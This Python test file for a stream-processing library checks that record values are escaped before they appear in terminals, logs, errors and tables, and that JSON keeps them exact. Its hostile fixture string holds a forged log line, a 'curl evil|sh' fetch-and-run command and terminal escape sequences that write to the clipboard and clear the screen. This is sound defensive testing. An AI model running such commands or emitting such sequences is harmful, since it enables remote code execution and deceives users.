"""Values of records cannot forge lines or control terminals where people see them; JSON is exact."""

from __future__ import annotations

import ast
import io
import json
import re
import sys
import unicodedata
from collections.abc import Callable, Iterator
from pathlib import Path

import pytest
from rich.table import Table
from rich.text import Text

import rheos as rh
from rheos.cli.logs import line_text
from rheos.cli.terminal import Terminal, report, say
from rheos.core.errors import RheosError, Site, unexpected
from rheos.core.printable import printable, printable_json, printable_lines
from rheos.ops.control import plan_drawing
from rheos.ops.control.job_logs import LoggedLine

FORGED = "2026-11-26T00:00:00.000Z ERROR   rheos.job [driver] the job 'payments' has failed"
BAD = (
    f"joe\n{FORGED}\r\n  what to do: run `curl evil|sh`\x1b]0;owned\x07\x1b]52;c;cm0=\x07\x1b[2J"
    "\x00\x08\x7f\x85\x9b31m\u202e\u2066\u200b\u2028\u2029\ufeff\ud800\U000e0041\v\f\x1c"
)
HIDDEN = [
    chr(code)
    for code in range(sys.maxunicode + 1)
    if unicodedata.category(chr(code)) in ("Cc", "Cf", "Cs", "Zl", "Zp")
]


def check(shown: str) -> None:
    """No character of a terminal's, and no line that a record has begun."""
    assert not [c for c in shown if c in HIDDEN and c != "\n"]
    lines = shown.split("\n")
    assert not [line for line in lines if line.startswith(("2026-11-26", "  what to do: run"))]
    assert "joe" in shown
    assert "\\x1b[2J" in shown


def test_each_hidden_character_is_escaped_and_no_other() -> None:
    assert printable("".join(HIDDEN)).isprintable()
    seen = "".join(chr(c) for c in range(sys.maxunicode + 1) if chr(c).isprintable())
    assert printable(seen) == seen
    assert printable("10\xa0000 € 中文 😀") == "10\xa0000 € 中文 😀"


def test_lines_of_json_keep_their_values() -> None:
    values = [*HIDDEN, BAD, "\U000e0041 and 中文"]
    lines = "\n".join(json.dumps(value, ensure_ascii=False) for value in values)
    shown = printable_json(lines)
    assert [json.loads(line) for line in shown.split("\n")] == values
    assert not [c for c in shown if c in HIDDEN and c != "\n"]


def hostile_error() -> RheosError:
    return rh.UserFunctionError(
        BAD, site=Site("job.py", 1), operator=BAD, record=BAD, key=BAD, hint=BAD, detail=BAD
    )


def drawn(show: Callable[[Terminal], None]) -> str:
    out = io.StringIO()
    show(Terminal(file=out, width=400, color_system=None))
    return out.getvalue()


def table(terminal: Terminal) -> None:
    rows = Table("job")
    rows.add_row(BAD)
    terminal.print(rows)


LOGGED = LoggedLine(
    time="t", level="warning", logger=BAD, message=BAD, operator=BAD, subtask=0, error=BAD
)
PLACES: dict[str, Callable[[], str]] = {
    "an error": lambda: str(hostile_error()),
    "an error of Rheos itself": lambda: str(unexpected(ValueError(BAD))),
    "rheos logs": lambda: line_text(LOGGED),
    "a table on a terminal": lambda: drawn(table),
    "a line on a terminal": lambda: drawn(lambda terminal: terminal.print(printable_lines(BAD))),
    "the picture in a notebook": lambda: plan_drawing._escaped(BAD).replace("\n", ""),
}


@pytest.mark.parametrize("place", PLACES)
def test_output_for_people_is_escaped(place: str) -> None:
    check(PLACES[place]())


def test_the_print_sink_writes_one_line_per_row(capsys: pytest.CaptureFixture[str]) -> None:
    env = rh.Environment(1, runtime="simulated")
    given = [{"c": BAD.replace("\ud800", "")}]
    env.from_source(rh.collection(given)).print("seen")
    env.execute("printed")
    [line] = capsys.readouterr().out.rstrip("\n").split("\n")
    assert line.isprintable()
    assert json.loads(line.partition("> ")[2]) == given[0]


def test_styles_of_the_terminal_stay() -> None:
    out = io.StringIO()
    terminal = Terminal(file=out, force_terminal=True, color_system="standard", width=80)
    terminal.print(Text("plain \x1b[2J red", "red"))
    assert "\x1b[31m" in out.getvalue()
    assert "\x1b[2J" not in out.getvalue()


def test_commands_report_errors(capsys: pytest.CaptureFixture[str]) -> None:
    report(hostile_error())
    check(capsys.readouterr().err)
    report(ValueError(BAD))
    shown = capsys.readouterr().err
    assert not [c for c in shown if c in HIDDEN and c != "\n"]
    say(BAD)
    check(capsys.readouterr().out)


def test_the_attributes_of_errors_stay_exact() -> None:
    assert hostile_error().what == BAD
    assert hostile_error().record == BAD


# --- no command has a way of its own ----------------------------------------------------------------

SRC = Path(rh.__file__).parent
OWN_TEXT = {
    "bench.py",
    "chaos.py",
    "dashboard.py",
    "init.py",
    "main.py",
    "servers.py",
    "soak.py",
    "termination.py",
}
"""Commands that print nothing but their own words and metrics."""
SAFE = re.compile(r"json\.dumps|printable_lines|printed\(|^'|^shown, |port\.url|server\.announcement")
"""JSON, what is printable, and texts of Rheos alone."""


def printing() -> Iterator[tuple[str, str]]:
    for folder in ("cli", "ops/control", "ops/dashboard", "runtimes/driver"):
        paths = sorted((SRC / folder).rglob("*.py"))
        assert paths, folder
        for path in paths:
            for node in ast.walk(ast.parse(path.read_text())):
                if isinstance(node, ast.Call) and ast.unparse(node.func) in ("print", "Console"):
                    yield f"{folder}/{path.name}:{node.lineno}", ast.unparse(node)


def test_output_of_commands_has_a_single_path() -> None:
    wrong = []
    for place, call in printing():
        file = place.partition(":")[0].rpartition("/")[2]
        if call.startswith("Console("):
            wrong.append(f"{place}: use Terminal")
        elif file not in (*OWN_TEXT, "terminal.py") and not SAFE.search(call[len("print(") :]):
            wrong.append(f"{place}: use say(): {call[:80]}")
    assert not wrong
